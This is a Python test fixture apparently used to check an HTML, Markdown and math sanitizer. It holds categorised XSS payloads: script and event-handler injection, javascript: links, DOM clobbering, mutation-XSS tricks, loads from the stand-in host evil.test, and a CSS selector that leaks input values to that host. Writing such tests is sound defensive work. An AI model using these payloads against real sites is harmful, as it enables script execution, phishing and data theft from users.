"""What hostile texts try at the page: to run, to lead away, to load from elsewhere, to take names over.

`RUN` stands for a script that is noticed when it runs, and `http://evil.test` for another host.
"""

MARKUP = [
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<img src=http://evil.test/i.png>",
    '<img srcset="http://evil.test/s.png 1x">',
    "<picture><source srcset=http://evil.test/p.png><img></picture>",
    "<iframe src=javascript:RUN></iframe>",
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    "<iframe src=http://evil.test/></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=http://evil.test/e.swf>",
    "<video poster=http://evil.test/v.png><source src=x onerror=RUN></video>",
    "<audio src=http://evil.test/a.ogg autoplay onerror=RUN></audio>",
    "<input autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<select autofocus onfocus=RUN></select>",
    "<details open ontoggle=RUN><summary>more</summary></details>",
    "<marquee onstart=RUN>text</marquee>",
    "<body onload=RUN onpageshow=RUN>",
    "<xss autofocus tabindex=1 onfocus=RUN>text</xss>",
    "<p style='animation:x' onanimationstart=RUN>text</p>",
    "<div popover id=p onbeforetoggle=RUN></div><button popovertarget=p>open</button>",
    "<dialog open><form method=dialog><button autofocus onfocus=RUN>Sign in again</button></form></dialog>",
    "<template shadowrootmode=open><script>RUN</script></template>",
    "<template><img src=x onerror=RUN></template>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "'\"><svg/onload=RUN>",
    "</title></textarea></style></script><script>RUN</script>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<script>RUN</script>]]>",
    "<scr\u200bipt>RUN</scr\u200bipt><SCRIPT/x>RUN</SCRIPT>",
    "{{constructor.constructor('RUN')()}}${RUN}<%= RUN %>",
    '{"type":"script","props":{"dangerouslySetInnerHTML":{"__html":"RUN"}},"__v":1}',
]
LEADING_AWAY = [
    "<a href=javascript:RUN autofocus>link</a>",
    "<a href='java&#9;script:RUN'>link</a>",
    "<a href='&#106;avascript:RUN'>link</a>",
    "<a href='data:text/html,<script>RUN</script>'>link</a>",
    "<a href=http://evil.test/ ping=http://evil.test/ping target=_self>link</a>",
    "<form action=http://evil.test/><button autofocus>Send</button></form>",
    "<form id=f></form><button form=f formaction=javascript:RUN>Send</button>",
    "<base href=http://evil.test/><script src=x.js></script>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    "<link rel=stylesheet href=http://evil.test/l.css>",
    "<link rel=prefetch href=http://evil.test/f>",
    "<link rel=modulepreload href=http://evil.test/m.js>",
]  # fmt: skip
STYLES = [
    "<style>@import 'http://evil.test/s.css';</style>",
    "<style>* { background: url(http://evil.test/b.png) }</style>",
    "<p style='background:url(http://evil.test/b.png)'>text</p>",
    "<p style='position:fixed;inset:0;z-index:99'>Sign in at evil.test</p>",
    "<p class='notice bad header' data-theme=dark>text</p>",
    "<style>input[value^=a] { background: url(http://evil.test/a) }</style>",
]
CLOBBERING = [
    "<a id=main name=main></a><a id=main href=http://evil.test/></a>",
    "<img name=body><img name=cookie><form name=documentElement></form>",
    "<form id=trustedTypes><input name=createPolicy></form>",
    "<form><input name=attributes><input name=nodeName><input name=parentNode></form>",
    "<a id=temml></a><a id=temml name=renderToString href=javascript:RUN></a>",
]
DRAWN = [
    "<svg onload=RUN></svg>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s></animate></svg>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>link</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=RUN></svg>#x'></use></svg>",
    "<svg><image href=http://evil.test/i.svg></image></svg>",
    "<svg><foreignObject><iframe src=javascript:RUN></iframe></foreignObject></svg>",
    "<math href=javascript:RUN><mi>x</mi></math>",
    "<math><maction actiontype='statusline#http://evil.test' xlink:href=javascript:RUN>x</maction></math>",
    "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    r"\[ \href{javascript:RUN}{x} \]",
    r"$$\includegraphics{http://evil.test/m.png}$$",
    r"\( \class{notice}{\style{background:url(http://evil.test/)}{x}} \)",
    r"$$\text{<img src=x onerror=RUN>}$$",
    r"$$\def\a{\a\a}\a$$",
    r"$$\htmlData{x=</math><img src=x onerror=RUN>}{y}$$",
]
MARKDOWN = [
    "[link](javascript:RUN)",
    "[link](JaVaScRiPt:RUN)",
    "[link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[link](vbscript:RUN)",
    "![picture](http://evil.test/m.png)",
    '![picture](x"onerror="RUN)',
    '[link](http://evil.test "x\\" onmouseover=RUN autofocus onfocus=RUN")',
    "<javascript:RUN>",
    "[link][r]\n\n[r]: javascript:RUN",
    "| a |\n|---|\n| <img src=x onerror=RUN> |",
    '```"><img src=x onerror=RUN>\ncode\n```',
    "`<img src=x onerror=RUN>` [1](javascript:RUN)",
    "\ue0000\ue001 \ue00099\ue001",
    "\u202eknil\u202c [\u202e1](http://evil.test/)",
]


def payloads() -> list[str]:
    """Return all of them, each with a number that tells which one ran."""
    texts = [*MARKUP, *LEADING_AWAY, *STYLES, *CLOBBERING, *DRAWN, *MARKDOWN]
    return [text.replace("RUN", f"alert({number})") for number, text in enumerate(texts)]
